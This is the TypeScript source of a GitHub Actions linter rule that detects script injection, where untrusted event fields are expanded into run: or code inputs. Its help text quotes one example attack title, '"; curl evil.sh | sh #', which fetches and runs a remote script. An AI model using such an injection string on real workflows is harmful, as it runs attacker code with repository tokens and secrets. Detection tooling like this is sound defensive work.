/**
 * PG200 untrusted-input-in-script: attacker-controlled data expanded with `${{ }}` where it becomes
 * code: `run:`, `actions/github-script`'s `script:` and the other code inputs zizmor knows, directly
 * or through the output of an earlier step that carries it (zizmor's template-injection).
 */
import type { TemplateToken } from '@actions/workflow-parser/templates/tokens/index';
import type { Rule } from '../../rule.js';
import type { ActionModel, FileModel, JobModel, StepModel, WorkflowModel } from '../../model.js';
import { contextChains, expressionSites, type Segment } from '../../expressions.js';
import { entryOf, textOf } from './tokens.js';
import { CODE_INPUTS, TAINTED_OUTPUTS, UNTRUSTED_CONTEXTS } from './sources.js';

const UNTRUSTED = UNTRUSTED_CONTEXTS.map((p) => p.split('.'));

/** The untrusted path a chain reads (as written in the list), if any. */
function untrusted(segments: Segment[]): string | undefined {
  const names = segments.map((s) => s.name.toLowerCase());
  for (const pattern of UNTRUSTED) {
    if (names.length < pattern.length) continue;
    if (pattern.every((p, i) => p === '*' || names[i] === '*' || names[i] === p)) return pattern.join('.');
  }
  return undefined;
}

/**
 * An object or array holding untrusted fields (`github.event`, `github.event.pull_request`, …)
 * serialized whole with `toJSON(…)`, which pastes every field, attacker text included.
 */
function untrustedObject(segments: Segment[], expression: string): string | undefined {
  const names = segments.map((s) => s.name.toLowerCase());
  if (names.length < 2 || names.includes('*')) return undefined;
  const prefix = UNTRUSTED.find((p) => p.length > names.length && names.every((n, i) => p[i] === n));
  if (!prefix) return undefined;
  const written = segments.map((s) => s.name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('\\s*\\.\\s*');
  return new RegExp(`tojson\\s*\\(\\s*${written}\\s*\\)`, 'i').test(expression) ? `${names.join('.')} serialized whole, with untrusted fields such as ${prefix.join('.')}` : undefined;
}

/** The untrusted paths the expressions of a token read. */
function untrustedIn(token: TemplateToken | undefined): string[] {
  const found: string[] = [];
  for (const site of expressionSites(token)) for (const chain of contextChains(site)) {
    const path = untrusted(chain.segments);
    if (path) found.push(path);
  }
  return found;
}

/** `owner/repo` of a `uses:`, lower case; undefined for local and docker actions. */
function repoOf(uses: string | undefined): string | undefined {
  const m = /^([^./][^/@]*)\/([^/@]+)/.exec(uses?.trim() ?? '');
  return m ? `${m[1]}/${m[2]}`.toLowerCase() : undefined;
}

/**
 * Why the output `name` of an earlier step carries untrusted data, if it does: a well-known action
 * output, or a `run:` that writes untrusted data (expanded, or from its `env:`) to $GITHUB_OUTPUT
 * under that name.
 */
function taintedOutput(step: StepModel, name: string): string | undefined {
  const pattern = TAINTED_OUTPUTS.get(repoOf(step.uses?.value) ?? '');
  if (pattern?.test(name)) return `an output of ${repoOf(step.uses?.value)}, names an attacker chooses`;
  const run = entryOf(step.token, 'run')?.value;
  const script = textOf(run);
  if (!script || !/GITHUB_OUTPUT/.test(script)) return undefined;
  const escaped = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  if (!new RegExp(`(^|[^\\w-])${escaped}(=|<<)`).test(script)) return undefined;
  const direct = untrustedIn(run);
  if (direct.length) return `its run: writes ${direct[0]} to $GITHUB_OUTPUT`;
  for (const [variable, entry] of step.env) {
    const paths = untrustedIn(entry.value);
    if (paths.length && new RegExp(`\\$\\{?${variable.replace(/[^\w]/g, '')}\\b`).test(script)) return `its run: writes ${paths[0]} (env ${variable}) to $GITHUB_OUTPUT`;
  }
  return undefined;
}

/**
 * Why the output `name` of job `id` carries untrusted data: its `outputs:` value expands
 * untrusted input, or a step output that carries it (one level: a job's outputs name its steps).
 */
function taintedJobOutput(workflow: WorkflowModel, id: string, name: string): string | undefined {
  const job = workflow.jobsByLowerId.get(id.toLowerCase());
  const output = job?.outputs.get(name);
  if (!job || !output) return undefined;
  for (const site of expressionSites(output.value)) for (const chain of contextChains(site)) {
    const path = untrusted(chain.segments);
    if (path) return `job "${job.id.value}" outputs ${path}`;
    const [ctx, step, outputs, stepOutput] = chain.segments.map((s) => s.name);
    if (ctx !== 'steps' || outputs !== 'outputs' || !stepOutput) continue;
    const source = job.steps.find((s) => s.id?.value === step);
    const why = source && taintedOutput(source, stepOutput);
    if (why) return `job "${job.id.value}" outputs steps.${step}.outputs.${stepOutput}, and step "${step}": ${why}`;
  }
  return undefined;
}

const rule: Rule = {
  id: 'PG200',
  name: 'untrusted-input-in-script',
  level: 'error',
  description: 'Attacker-controlled data (titles, bodies, head refs, commit messages, `github.head_ref`, …, or a step or job output that carries them) expanded with `${{ }}` in `run:`, `actions/github-script`\'s `script:` or another action input that is code.',
  help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The untrusted inputs are those of actionlint and GitHub\'s security hardening guide and the free-text fields of zizmor\'s context list; the code inputs of actions are zizmor\'s (CodeQL\'s sinks: `actions/github-script` `script`, `azure/cli` `inlineScript`, `mikefarah/yq` `cmd`, …); a step output is untrusted when the step writes untrusted data to `$GITHUB_OUTPUT` under its name, or is a file or branch name of `tj-actions/changed-files` or `tj-actions/branch-names`; a job output (`needs.<job>.outputs.<name>`) when its value is untrusted input or such a step output.',
  create(context) {
    return {
      step(step: StepModel, owner: JobModel | ActionModel, file: FileModel) {
        const sites: { where: string; token: TemplateToken }[] = [];
        const run = entryOf(step.token, 'run')?.value;
        if (run) sites.push({ where: 'run:', token: run });
        const repo = repoOf(step.uses?.value);
        const with_ = entryOf(step.token, 'with')?.value;
        for (const input of CODE_INPUTS.get(repo ?? '') ?? []) {
          const value = entryOf(with_, input)?.value;
          if (value) sites.push({ where: `${repo}'s ${input}:`, token: value });
        }
        const earlier = owner.steps.slice(0, step.index);
        for (const { where, token } of sites) {
          for (const site of expressionSites(token)) {
            for (const chain of contextChains(site)) {
              const shown = chain.segments.map((s) => s.name).join('.');
              const path = untrusted(chain.segments) ?? untrustedObject(chain.segments, chain.expression);
              if (path) {
                context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
                continue;
              }
              const [ctx, id, outputs, name] = chain.segments.map((s) => s.name);
              if (outputs !== 'outputs' || !name || name === '*') continue;
              let why: string | undefined;
              if (ctx === 'steps') {
                const source = earlier.find((s) => s.id?.value === id);
                const tainted = source && taintedOutput(source, name);
                why = tainted && `step "${id}": ${tainted}`;
              } else if (ctx === 'needs' && file.kind === 'workflow') {
                why = taintedJobOutput(file, id, name);
              }
              if (why) context.report(file.file, chain.segments[0], `"${shown}" carries untrusted input (${why}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
            }
          }
        }
      }
    };
  }
};
export default rule;
